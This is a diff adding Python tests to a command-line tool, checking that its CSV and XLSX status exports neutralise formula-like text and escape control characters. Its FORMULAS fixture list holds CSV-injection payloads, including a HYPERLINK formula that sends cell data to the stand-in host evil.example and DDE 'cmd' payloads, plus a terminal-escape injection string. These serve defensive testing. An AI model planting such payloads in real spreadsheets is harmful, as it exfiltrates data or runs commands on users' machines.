@@ -31,6 +31,84 @@ def as_text(value: object) -> str:
     return "" if value is None else str(value)
 
 
+def as_cell(value: object) -> str:
+    """What a CSV cell holds: the text, with an apostrophe before text a spreadsheet would run as a formula."""
+    text = as_text(value)
+    return "'" + text if isinstance(value, str) and text.lstrip(" ")[:1] in ("=", "+", "-", "@") else text
+
+
+#: cells Excel, LibreOffice or Google Sheets would run (OWASP's CSV injection list, and a few of its disguises)
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r\n=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+]
+
+
+def formula_tanks(ws: Workspace) -> None:
+    """A tank for each formula, as its name, and as its trekker, coach and opdrachtgever."""
+    files = {}
+    for number, formula in enumerate(FORMULAS):
+        record = RECORD.replace("naam: Slimmer vergaderen", f"naam: {json.dumps(formula)}")
+        for name in ("Anna de Vries", "Cor Smit", "Karin Jansen"):
+            record = record.replace(f"naam: {name}", f"naam: {json.dumps(formula + name)}")
+        files[f"tanks/formule-{number}/doetank.yaml"] = record
+    build_tree(ws.root, files)
+
+
+def test_csv_never_hands_a_spreadsheet_a_formula(ws: Workspace, run) -> None:
+    formula_tanks(ws)
+    expected = json.loads(run("status", "--json").stdout)
+    assert {item["naam"] for item in expected} == set(FORMULAS)  # the names are what the records say
+    result = run("status", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout_bytes.decode("utf-8"), newline="")))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for key in ("naam", "trekker", "coach", "opdrachtgever"):
+            assert row[key].startswith("'"), (key, row[key])  # text to every spreadsheet
+        assert row["naam"][1:] in FORMULAS  # and otherwise the name as it is
+        assert row["fase_nummer"] == "1"  # numbers stay numbers
+
+
+def test_xlsx_marks_formula_like_text_so_that_editing_the_cell_keeps_it_text(
+    ws: Workspace, run, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    formula_tanks(ws)
+    target = tmp_path / "doetanks.xlsx"
+    assert run("status", "--format", "xlsx", "--output", str(target)).exit_code == 0
+    sheet = load_workbook(target).active
+    names = [row[1] for row in sheet.iter_rows(min_row=2)]
+    # no apostrophe in the value (XML reads a carriage return as a line feed)
+    assert {cell.value for cell in names} == {formula.replace("\r\n", "\n") for formula in FORMULAS}
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
+
+
+def test_control_characters_in_a_name_are_shown_as_escapes_in_csv_and_xlsx(ws: Workspace, run, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    name = "A\x01B\x1b]0;PWNED\x07\x1b[31mC\u202eD"
+    build_tree(
+        ws.root, {"tanks/ctl/doetank.yaml": RECORD.replace("naam: Slimmer vergaderen", f"naam: {json.dumps(name)}")}
+    )
+    shown = "A\\x01B\\x1b]0;PWNED\\x07\\x1b[31mC\\u202eD"  # as status shows it on the terminal
+    result = run("status", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    assert b"\x1b" not in result.stdout_bytes and b"\x07" not in result.stdout_bytes
+    assert next(csv.DictReader(io.StringIO(result.stdout, newline="")))["naam"] == shown
+    target = tmp_path / "doetanks.xlsx"
+    result = run("status", "--format", "xlsx", "--output", str(target))
+    assert result.exit_code == 0, result.output  # was a crash: openpyxl refuses control characters
+    assert load_workbook(target).active["B2"].value == shown
+
+
 def test_csv_has_exactly_the_keys_and_values_of_status_json(ws: Workspace, run) -> None:
     examples(ws)
     expected = json.loads(run("status", "--json").stdout)
@@ -41,7 +119,7 @@ def test_csv_has_exactly_the_keys_and_values_of_status_json(ws: Workspace, run) 
     assert not raw.startswith(b"\xef\xbb\xbf")
     rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
     assert [list(row) for row in rows] == [list(item) for item in expected]
-    assert rows == [{key: as_text(value) for key, value in item.items()} for item in expected]
+    assert rows == [{key: as_cell(value) for key, value in item.items()} for item in expected]
     assert any(row["naam"] == 'Komma, "quote" en\nregel' for row in rows)
 
 
